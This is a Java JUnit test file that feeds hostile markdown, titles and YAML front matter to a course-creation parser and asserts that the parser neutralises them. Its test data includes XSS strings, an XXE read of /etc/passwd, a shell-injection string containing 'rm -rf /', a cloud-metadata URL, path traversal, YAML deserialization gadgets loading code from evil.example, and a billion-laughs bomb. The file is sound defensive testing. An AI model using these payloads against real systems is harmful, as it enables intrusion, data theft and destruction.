package dev.coursecreator.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import dev.coursecreator.markdown.ParsedCourse.Valid;
import dev.coursecreator.markdown.text.PlainText;
import dev.coursecreator.model.Slug;
import dev.coursecreator.model.message.MessageCodec;
import java.util.List;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Malicious input becomes harmless slides and narration, or errors; it never breaks the parser. */
class HostileMarkdownTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "Before <b onclick=alert(1)>bold</b> after.",
                "<iframe src=\"https://evil.example/\"></iframe>",
                "<svg onload=alert(1)></svg>",
                "<style>@import 'https://evil.example/'</style>",
                "<?php system('id'); ?>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<a href=\"javascript:alert(1)\">click</a>",
                "# <script>alert(1)</script> A heading",
                "- <script>alert(1)</script> an item",
                "| a | b |\n|---|---|\n| <script>alert(1)</script> | c |"
            })
    void rawHtmlIsDropped(String html) {
        var script = json("# Course\n\nText.\n\n" + html + "\n\nMore.\n");
        assertThat(script)
                .doesNotContain(
                        "<script",
                        "<img",
                        "<b ",
                        "<iframe",
                        "<svg",
                        "<style",
                        "<?php",
                        "<!",
                        "<a ",
                        "onclick",
                        "evil.example");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a picture](https://evil.example/track.png)",
                "![a picture](file:///etc/passwd)",
                "![a picture](../../../../etc/passwd)",
                "![a picture][ref]\n\n[ref]: https://evil.example/track.png",
                "[a link](javascript:alert(1))",
                "[a link](https://evil.example/?secret)",
                "[a link](data:text/html;base64,PHNjcmlwdD4=)",
                "Text ![a picture](http://169.254.169.254/latest/meta-data) in a line."
            })
    void linkAndImageTargetsAreDropped(String link) {
        var script = json("# Course\n\nText.\n\n" + link + "\n\nMore.\n");
        assertThat(script).doesNotContain("evil.example", "/etc/passwd", "javascript:", "data:text", "169.254.169.254");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../etc/passwd",
                "/etc/passwd",
                "..\\\\..\\\\windows",
                "a/../../b",
                "con|nul:aux*",
                "$(touch x) `id` ; rm -rf /",
                "-i -filter_complex movie=/etc/passwd",
                "%2e%2e%2f",
                "a\u0000b",
                "\u202egnp.exe"
            })
    void titleBecomesASafeSlug(String title) {
        for (var markdown : new String[] {
            "# " + title + "\n\nText.\n", "---\ntitle: \"" + title.replace("\"", "") + "\"\n---\n\nText.\n"
        }) {
            if (CourseMarkdown.parse(markdown) instanceof Valid valid) {
                assertThat(Slug.of(valid.script().title(), "course"))
                        .as(markdown)
                        .matches("[\\p{L}\\p{N}]+(-[\\p{L}\\p{N}]+)*");
                assertThat(valid.script().title()).doesNotContain("\u0000", "\u202e");
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
                "title: !!java.io.File [/etc/passwd]",
                "title: {a: [{b: [{c: [{d: [{e: [{f: 1}]}]}]}]}]}",
                "title: &a [*a]",
                "language: en; movie=/etc/passwd",
                "theme: &a {mode: [*a], footer: [*a], accent: [*a], logo: [*a], fonts: {text: [*a]}}",
                "theme: &a [*a]",
                "theme: {? [x, y] : z, footer: !!set {a, b}}",
                "language: ../../en",
                "voice: [1, 2]"
            })
    void frontMatterAcceptsPlainTextValuesOnly(String yaml) {
        var parsed = CourseMarkdown.parse("---\n" + yaml + "\n---\n\n# Course\n\nText.\n");
        assertThat(parsed).isInstanceOfSatisfying(Valid.class, course -> {
            assertThat(course.script().warnings()).isNotEmpty();
            assertThat(course.script().language()).isEqualTo("en");
            assertThat(course.voice()).isNull();
        });
    }

    /** The "billion laughs" attack: ten aliases of ten aliases of ten aliases. */
    @Test
    void exponentiallyGrowingAliasesAreNotExpanded() {
        var yaml = new StringBuilder("---\na0: &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha, ha]\n");
        for (int i = 1; i < 12; i++) {
            yaml.append("a%d: &a%d [%s]\n"
                    .formatted(i, i, String.join(", ", java.util.Collections.nCopies(10, "*a" + (i - 1)))));
        }
        assertThat(json(yaml + "---\n\n# Course\n\nText.\n")).hasSizeLessThan(2_000);
    }

    /** The parser of the library visits all nodes before a delimiter that closes nothing. */
    @Test
    void marksEndAfterAThousandDelimitersAndNothingIsLost() {
        var few = "*a " + "x~~y ".repeat(100) + "b*";
        var many = "*a " + "x~~y ".repeat(1_000) + "b*";
        assertThat(PlainText.of(few)).startsWith("a x~~y").endsWith("x~~y b.");
        assertThat(PlainText.of(many)).isEqualTo(many + ".");
    }

    /** The stack of a request is not larger, however long a word is. */
    @Test
    void longWordsNeedNoMoreStack() throws InterruptedException {
        var failures = new ConcurrentLinkedQueue<Throwable>();
        for (var text : List.of(
                "a.\ud835\udc00.".repeat(60_000) + " Next.",
                "---\nlanguage: en" + "-aa".repeat(30_000) + "\n---\n# A\n\nText.\n")) {
            var thread = new Thread(null, () -> CourseMarkdown.parse(text), "small stack", 512 * 1024);
            thread.setUncaughtExceptionHandler((failed, failure) -> failures.add(failure));
            thread.start();
            thread.join();
        }
        assertThat(failures).isEmpty();
    }

    private static String json(String markdown) {
        return CourseMarkdown.parse(markdown) instanceof Valid valid
                ? MessageCodec.json().writeValueAsString(valid.script())
                : "";
    }
}
